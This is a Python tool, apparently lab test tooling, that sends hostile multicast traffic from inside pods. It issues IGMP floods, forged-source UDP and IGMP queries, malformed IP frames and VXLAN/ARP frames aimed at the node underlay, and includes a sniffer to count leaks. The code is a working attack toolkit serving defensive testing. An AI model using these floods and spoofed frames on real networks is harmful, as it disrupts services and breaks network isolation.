#!/usr/bin/env python3
"""mcattack: what a hostile pod sends, run inside lab pods (issue 11's attacks), and a sniffer.

Standard library only and runnable as a plain script, like ``tools/mcprobe.py``. Every frame is
built here byte by byte and sent from the pod's ``eth0`` through an AF_PACKET socket (or, for
``spoof --src-ip`` alone, a raw IP socket with IP_HDRINCL), so nothing of the pod's kernel
(IGMP state, routes, neighbours) filters it. Unless told to forge them, frames carry the pod's
own MAC and IP: an attack that must get past a spoof guard (a flood, a burst) has to.

    mcattack.py flood --rate R --duration S [--procs P]
        IGMPv2 reports to random groups of 239.128.0.0/9 at R reports/s in all (P processes).
    mcattack.py v3burst --count N [--sources K] [--pps R]
        IGMPv3 reports, each holding as many records of K sources as the MTU allows.
    mcattack.py spoof GROUP PORT --count N [--pps R] [--src-ip IP] [--src-mac MAC] [--tag T]
        UDP datagrams "<seq> mcattack T" to GROUP:PORT from a forged IP and/or MAC (or not).
    mcattack.py query [--version 1|2|3] [--group G] [--code C] [--src-ip IP] [--src-mac MAC]
        IGMP queries to 224.0.0.1 (general) or to G (group-specific), max resp code C.
    mcattack.py malformed --count N [--procs P] [--seed S]
        IP protocol 2 frames with random payloads and, one in five, broken IPv4 headers.
    mcattack.py underlay --peer-ip IP --peer-mac MAC --node-ip IP --node-mac MAC --group G
                         --port P --tag T [--count N]
        Frames aimed past the pod network: VXLAN to a peer node (outer source the pod's or the
        node's), UDP and IGMP to the node's and the peer's underlay address, ARP for them, and
        broadcast frames; every one carries T.
    mcattack.py sniff --iface IF [--iface IF ...] --match T [--match T ...] [--outgoing]
                      [--duration S] [--ready FILE] [--status FILE]
        Counts frames on IF holding one of the strings T (hex with --hex), by IF and by T.

Senders print {"sent": N, "pps": ..}; ``sniff`` prints {"n": N, "by_iface": .., "by_match": ..}
when it ends (--duration, SIGTERM), keeps --status current and writes --ready once bound.
"""

from __future__ import annotations

import argparse
import ctypes
import errno
import fcntl
import json
import os
import random
import select
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

from tools.mcprobe import multicast_iface

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
ETH_P_ARP = 0x0806
ETH_P_EXPERIMENTAL = 0x88B5
PACKET_OUTGOING = 4
SIOCGIFADDR = 0x8915
SIOCGIFMTU = 0x8921
PR_SET_PDEATHSIG = 1
ROUTER_ALERT = b"\x94\x04\x00\x00"
ALL_HOSTS = "224.0.0.1"
V3_ROUTERS = "224.0.0.22"
VXLAN_PORT = 4789
BROADCAST = b"\xff" * 6
MIN_FRAME = 60


class _Stop(Exception):
    """Raised by the signal handler to end a loop."""


_STOPPED: list[int] = []  # the signals received, so a parent passes them on to its children


def _on_signal(signum: int, _frame: object) -> None:
    _STOPPED.append(signum)
    raise _Stop(signum)


# ---------------------------------------------------------------------------- bytes


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def mac_bytes(mac: str) -> bytes:
    return bytes.fromhex(mac.replace(":", ""))


def multicast_mac(ip: bytes) -> bytes:
    return b"\x01\x00\x5e" + bytes([ip[1] & 0x7F]) + ip[2:4]


def ipv4(src: bytes, dst: bytes, proto: int, payload: bytes, ttl: int = 1,
         options: bytes = b"", ident: int = 0) -> bytes:
    ihl = 5 + len(options) // 4
    head = struct.pack("!BBHHHBBH4s4s", 0x40 | ihl, 0, 4 * ihl + len(payload), ident, 0, ttl,
                       proto, 0, src, dst) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def udp(sport: int, dport: int, payload: bytes) -> bytes:
    return struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload  # no checksum


def ether(dst: bytes, src: bytes, ethertype: int, payload: bytes) -> bytes:
    return (struct.pack("!6s6sH", dst, src, ethertype) + payload).ljust(MIN_FRAME, b"\x00")


def igmp(kind: int, code: int, group: bytes, tail: bytes = b"") -> bytes:
    msg = struct.pack("!BBH4s", kind, code, 0, group) + tail
    return msg[:2] + struct.pack("!H", checksum(msg)) + msg[4:]


def igmp_frame(mac: bytes, ip: bytes, dst: bytes, msg: bytes) -> bytes:
    return ether(multicast_mac(dst), mac, ETH_P_IP,
                 ipv4(ip, dst, 2, msg, options=ROUTER_ALERT))


# ---------------------------------------------------------------------------- the pod side


class Port:
    """The pod's interface: its MAC, IP and MTU, and an AF_PACKET socket sending on it."""

    def __init__(self, iface: str) -> None:
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        self.sock.bind((iface, 0))
        self.mac: bytes = self.sock.getsockname()[4]
        probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            req = struct.pack("256s", iface.encode())
            self.ip = fcntl.ioctl(probe.fileno(), SIOCGIFADDR, req)[20:24]
            self.mtu = struct.unpack_from("i", fcntl.ioctl(probe.fileno(), SIOCGIFMTU, req),
                                          16)[0]
        finally:
            probe.close()

    def send(self, frame: bytes) -> None:
        try:
            self.sock.send(frame)
        except OSError as e:  # ENOBUFS: the frame is lost, as on a congested wire
            if e.errno != errno.ENOBUFS:
                raise


def paced(frames: Sequence[bytes], port: Port | Callable[[bytes], object], count: int,
          pps: float, duration: float = 0.0) -> int:
    """Send ``count`` frames (cycling through ``frames``) on ``port`` (or with a send function)
    at ``pps`` (0: flat out), stopping at ``duration`` s if given; returns how many were sent."""
    send = port.send if isinstance(port, Port) else port
    start = time.monotonic()
    deadline = start + duration if duration else float("inf")
    batch = max(1, int(pps / 1000)) if pps else 64
    sent, k = 0, len(frames)
    try:
        while sent < count:
            for _ in range(min(batch, count - sent)):
                send(frames[sent % k])
                sent += 1
            now = time.monotonic()
            if now >= deadline:
                break
            if pps:
                delay = start + sent / pps - now
                if delay > 0:
                    time.sleep(delay)
    except _Stop:
        pass
    return sent


def in_processes(procs: int, work: Callable[[int], int]) -> int:
    """Run ``work(i)`` in ``procs`` processes (this one included); the sum of their results.
    Children end with their work (bounded by its duration) or with this process."""
    children: list[tuple[int, int]] = []
    for i in range(1, procs):
        rd, wr = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(rd)
            ctypes.CDLL(None).prctl(PR_SET_PDEATHSIG, signal.SIGTERM)
            n = 0
            try:
                n = work(i)
            finally:
                os.write(wr, str(n).encode())
                os._exit(0)
        os.close(wr)
        children.append((pid, rd))
    total = 0
    try:
        total = work(0)
    finally:
        for pid, rd in children:
            if _STOPPED:
                os.kill(pid, signal.SIGTERM)
            try:
                total += int(os.read(rd, 64) or b"0")
            except _Stop:
                os.kill(pid, signal.SIGTERM)
            os.waitpid(pid, 0)
    return total


def _report(sent: int, start: float, **extra: Any) -> int:
    elapsed = time.monotonic() - start
    print(json.dumps({"sent": sent, "elapsed_s": round(elapsed, 3),
                      "pps": round(sent / max(elapsed, 1e-6)), **extra}), flush=True)
    return 0


# ---------------------------------------------------------------------------- attacks


def cmd_flood(args: argparse.Namespace) -> int:
    port = Port(args.iface or multicast_iface())

    rng = random.Random(args.seed)
    pools: list[list[bytes]] = []
    for _ in range(args.procs):  # built before the clock starts
        pools.append([])
        for _ in range(args.pool):
            group = struct.pack("!I", 0xEF800000 | rng.getrandbits(23))
            pools[-1].append(igmp_frame(port.mac, port.ip, group, igmp(0x16, 100, group)))

    def work(i: int) -> int:
        return paced(pools[i], port, 1 << 62, args.rate / args.procs, args.duration)

    start = time.monotonic()
    return _report(in_processes(args.procs, work), start, procs=args.procs)


def cmd_v3burst(args: argparse.Namespace) -> int:
    port = Port(args.iface or multicast_iface())
    rng = random.Random(args.seed)
    record_len = 8 + 4 * args.sources
    per_report = max(1, (port.mtu - 24 - 8) // record_len)
    frames = []
    for _ in range(args.count):
        records = b""
        for r in range(per_report):
            group = struct.pack("!I", 0xEF800000 | rng.getrandbits(23))
            sources = b"".join(b"\x0a" + rng.randbytes(3) for _ in range(args.sources))
            kind = 1 if r % 2 else 5  # MODE_IS_INCLUDE / ALLOW_NEW_SOURCES
            records += struct.pack("!BBH4s", kind, 0, args.sources, group) + sources
        msg = igmp(0x22, 0, struct.pack("!HH", 0, per_report), records)
        frames.append(igmp_frame(port.mac, port.ip, socket.inet_aton(V3_ROUTERS), msg))
    start = time.monotonic()
    return _report(paced(frames, port, len(frames), args.pps), start,
                   records_per_report=per_report, sources_per_record=args.sources)


def _payload(seq: int, tag: str) -> bytes:
    return f"{seq} mcattack {tag}\n".encode()


def cmd_spoof(args: argparse.Namespace) -> int:
    group = socket.inet_aton(args.group)
    start = time.monotonic()
    if args.src_mac is None and args.src_ip:
        # IP_HDRINCL: the kernel routes it and fills in the MAC, we choose the source IP.
        src = socket.inet_aton(args.src_ip)
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
            packets = [ipv4(src, group, 17, udp(40000, args.port, _payload(seq, args.tag)),
                            ttl=args.ttl, ident=seq + 1) for seq in range(args.count)]
            sent = paced(packets, lambda p: sock.sendto(p, (args.group, 0)), args.count, args.pps)
        return _report(sent, start)
    port = Port(args.iface or multicast_iface())
    src_ip = socket.inet_aton(args.src_ip) if args.src_ip else port.ip
    mac = mac_bytes(args.src_mac) if args.src_mac else port.mac
    frames = [ether(multicast_mac(group), mac, ETH_P_IP,
                    ipv4(src_ip, group, 17, udp(40000, args.port, _payload(seq, args.tag)),
                         ttl=args.ttl, ident=seq + 1))
              for seq in range(args.count)]
    return _report(paced(frames, port, len(frames), args.pps), start)


def cmd_query(args: argparse.Namespace) -> int:
    port = Port(args.iface or multicast_iface())
    group = socket.inet_aton(args.group)
    tail = {1: b"", 2: b"", 3: struct.pack("!BBH", 2, 125, 0)}[args.version]
    code = 0 if args.version == 1 else args.code
    dst = group if args.group != "0.0.0.0" else socket.inet_aton(ALL_HOSTS)
    mac = mac_bytes(args.src_mac) if args.src_mac else port.mac
    ip = socket.inet_aton(args.src_ip) if args.src_ip else port.ip
    start = time.monotonic()
    frame = igmp_frame(mac, ip, dst, igmp(0x11, code, group, tail))
    return _report(paced([frame], port, args.count, 50.0), start)


def malformed_frames(mac: bytes, ip: bytes, count: int, seed: int) -> list[bytes]:
    """IP protocol 2 frames with random payloads: half raw random bytes, three tenths with an
    IGMP type and a valid checksum over random contents, a fifth with a broken IPv4 header."""
    rng = random.Random(seed)
    dsts = [socket.inet_aton(a) for a in (ALL_HOSTS, "224.0.0.2", V3_ROUTERS)]
    frames = []
    for _ in range(count):
        dst = rng.choice(dsts) if rng.random() < 0.5 else \
            struct.pack("!I", 0xE0000000 | rng.getrandbits(28))
        payload = rng.randbytes(rng.randrange(0, 200))
        roll = rng.random()
        if 0.5 <= roll < 0.8 and len(payload) >= 8:
            kind = rng.choice((0x11, 0x12, 0x16, 0x17, 0x22))
            payload = igmp(kind, payload[1], payload[4:8], payload[8:])
        pkt = ipv4(ip, dst, 2, payload, options=ROUTER_ALERT if rng.random() < 0.5 else b"")
        if roll >= 0.8:  # version/IHL, total length, fragment bits or checksum gone wrong
            field = rng.choice((0, 2, 6, 10))
            pkt = pkt[:field] + rng.randbytes(2) + pkt[field + 2:]
        frames.append(ether(multicast_mac(dst), mac, ETH_P_IP, pkt))
    return frames


def cmd_malformed(args: argparse.Namespace) -> int:
    port = Port(args.iface or multicast_iface())

    def work(i: int) -> int:
        share = args.count // args.procs + (i < args.count % args.procs)
        frames = malformed_frames(port.mac, port.ip, share, args.seed * 1000 + i)
        return paced(frames, port, share, args.pps / args.procs)

    start = time.monotonic()
    return _report(in_processes(args.procs, work), start)


def underlay_frames(mac: bytes, ip: bytes, args: argparse.Namespace) -> list[bytes]:
    """Frames a pod might use to reach the tunnel or the underlay directly (see the doc)."""
    tag = args.tag.encode()
    peer_ip, node_ip = socket.inet_aton(args.peer_ip), socket.inet_aton(args.node_ip)
    peer_mac, node_mac = mac_bytes(args.peer_mac), mac_bytes(args.node_mac)
    group = socket.inet_aton(args.group)
    inner = ether(multicast_mac(group), mac, ETH_P_IP,
                  ipv4(ip, group, 17, udp(40000, args.port, _payload(0, args.tag)), ttl=3))
    frames = []
    for vni in (0, 1):
        vxlan = struct.pack("!II", 0x08000000, vni << 8) + inner
        for src_mac, src_ip in ((mac, ip), (node_mac, node_ip)):
            frames.append(ether(peer_mac, src_mac, ETH_P_IP,
                                ipv4(src_ip, peer_ip, 17, udp(40000, VXLAN_PORT, vxlan), ttl=64)))
    for dst_mac, dst_ip in ((peer_mac, peer_ip), (node_mac, node_ip), (BROADCAST, peer_ip)):
        frames.append(ether(dst_mac, mac, ETH_P_IP,
                            ipv4(ip, dst_ip, 17, udp(40000, 9, tag), ttl=64)))
        report = igmp(0x16, 0, group) + tag  # unicast IGMP to a node, tag as trailing bytes
        frames.append(ether(dst_mac, mac, ETH_P_IP, ipv4(ip, dst_ip, 2, report)))
        arp = struct.pack("!HHBBH6s4s6s4s", 1, ETH_P_IP, 6, 4, 1, mac, ip, b"\x00" * 6, dst_ip)
        frames.append(ether(BROADCAST, mac, ETH_P_ARP, arp + tag))
    frames.append(ether(BROADCAST, mac, ETH_P_EXPERIMENTAL, tag))
    frames.append(ether(BROADCAST, node_mac, ETH_P_EXPERIMENTAL, tag))
    return frames


def cmd_underlay(args: argparse.Namespace) -> int:
    port, start = Port(args.iface or multicast_iface()), time.monotonic()
    frames = underlay_frames(port.mac, port.ip, args)
    return _report(paced(frames, port, args.count * len(frames), 200.0), start, kinds=len(frames))


# ---------------------------------------------------------------------------- the sniffer


def _write_atomic(path: str, text: str) -> None:
    tmp = f"{path}.tmp{os.getpid()}"
    Path(tmp).write_text(text)
    os.replace(tmp, path)


def cmd_sniff(args: argparse.Namespace) -> int:
    patterns = [bytes.fromhex(m) if args.hex else m.encode() for m in args.match]
    socks: dict[int, tuple[socket.socket, str]] = {}
    for iface in args.iface:
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        s.bind((iface, ETH_P_ALL))
        socks[s.fileno()] = (s, iface)
    by_iface = dict.fromkeys(args.iface, 0)
    by_match = dict.fromkeys(args.match, 0)
    samples: list[str] = []
    status_at = 0.0

    def result() -> dict[str, Any]:
        return {"n": sum(by_iface.values()), "by_iface": by_iface, "by_match": by_match,
                "samples": samples}

    if args.status:
        _write_atomic(args.status, json.dumps(result()) + "\n")
    if args.ready:
        _write_atomic(args.ready, json.dumps({"pid": os.getpid()}) + "\n")
    deadline = time.monotonic() + args.duration
    try:
        while (left := deadline - time.monotonic()) > 0:
            ready, _, _ = select.select(list(socks), [], [], min(left, 0.05))
            for fd in ready:
                sock, iface = socks[fd]
                data, addr = sock.recvfrom(65535)
                if addr[2] == PACKET_OUTGOING and not args.outgoing:
                    continue
                found = [m for m, p in zip(args.match, patterns, strict=True) if p in data]
                for m in found:
                    by_match[m] += 1
                if found:
                    by_iface[iface] += 1
                    if len(samples) < 5:
                        samples.append(data[:96].hex())
            if args.status and time.monotonic() - status_at >= 0.05:
                _write_atomic(args.status, json.dumps(result()) + "\n")
                status_at = time.monotonic()
    except _Stop:
        pass
    finally:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        for sock, _ in socks.values():
            sock.close()
    if args.status:
        _write_atomic(args.status, json.dumps(result()) + "\n")
    print(json.dumps(result()), flush=True)
    return 0


# ---------------------------------------------------------------------------- command line


def build_parser() -> argparse.ArgumentParser:
    p = argparse.ArgumentParser(prog="mcattack", description=__doc__.split("\n\n")[0])
    sub = p.add_subparsers(dest="cmd", required=True)

    def cmd(name: str, func: Callable[[argparse.Namespace], int],
            sender: bool = True) -> argparse.ArgumentParser:
        sp = sub.add_parser(name)
        if sender:
            sp.add_argument("--iface", help="the interface to send on (default: the one "
                                            "routing 224.0.0.0/4)")
            sp.add_argument("--seed", type=int, default=1)
        sp.set_defaults(func=func)
        return sp

    fl = cmd("flood", cmd_flood)
    fl.add_argument("--rate", type=float, required=True, help="reports/s, all processes")
    fl.add_argument("--duration", type=float, required=True)
    fl.add_argument("--procs", type=int, default=1)
    fl.add_argument("--pool", type=int, default=1 << 15, help="distinct groups per process")
    v3 = cmd("v3burst", cmd_v3burst)
    v3.add_argument("--count", type=int, required=True)
    v3.add_argument("--sources", type=int, default=40)
    v3.add_argument("--pps", type=float, default=1000.0)
    sp = cmd("spoof", cmd_spoof)
    sp.add_argument("group")
    sp.add_argument("port", type=int)
    sp.add_argument("--count", type=int, required=True)
    sp.add_argument("--pps", type=float, default=200.0)
    sp.add_argument("--ttl", type=int, default=3)
    sp.add_argument("--tag", default="spoof")
    q = cmd("query", cmd_query)
    q.add_argument("--version", type=int, choices=(1, 2, 3), default=3)
    q.add_argument("--group", default="0.0.0.0")
    q.add_argument("--count", type=int, default=3)
    q.add_argument("--code", type=int, default=77, help="max resp code (v2, v3): a marker")
    for forger in (sp, q):
        forger.add_argument("--src-ip", help="forge the source IP")
        forger.add_argument("--src-mac", help="forge the source MAC")
    mf = cmd("malformed", cmd_malformed)
    mf.add_argument("--count", type=int, required=True)
    mf.add_argument("--procs", type=int, default=1)
    mf.add_argument("--pps", type=float, default=0.0, help="0: flat out")
    ul = cmd("underlay", cmd_underlay)
    for opt in ("--peer-ip", "--peer-mac", "--node-ip", "--node-mac", "--group", "--tag"):
        ul.add_argument(opt, required=True)
    ul.add_argument("--port", type=int, required=True)
    ul.add_argument("--count", type=int, default=3, help="copies of each kind of frame")
    sn = cmd("sniff", cmd_sniff, sender=False)
    sn.add_argument("--iface", action="append", required=True)
    sn.add_argument("--match", action="append", required=True)
    sn.add_argument("--hex", action="store_true", help="--match values are hex")
    sn.add_argument("--outgoing", action="store_true", help="count frames sent on IF too")
    sn.add_argument("--duration", type=float, default=120.0)
    sn.add_argument("--ready")
    sn.add_argument("--status")
    return p


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    signal.signal(signal.SIGTERM, _on_signal)
    signal.signal(signal.SIGINT, _on_signal)
    try:
        return int(args.func(args))
    except _Stop:
        return 0
    except OSError as e:
        print(f"mcattack {args.cmd}: {e}", file=sys.stderr)
        return 1


if __name__ == "__main__":
    sys.exit(main())
